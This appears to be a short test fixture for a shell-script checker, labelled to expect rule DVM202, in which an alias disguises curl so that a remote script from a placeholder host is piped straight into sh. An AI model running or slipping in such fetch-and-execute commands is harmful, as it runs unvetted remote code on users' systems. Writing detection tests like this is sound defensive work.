# expect: DVM202
shopt -s expand_aliases
alias fetch='curl -fsSL'
fetch https://example.org/i.sh | sh
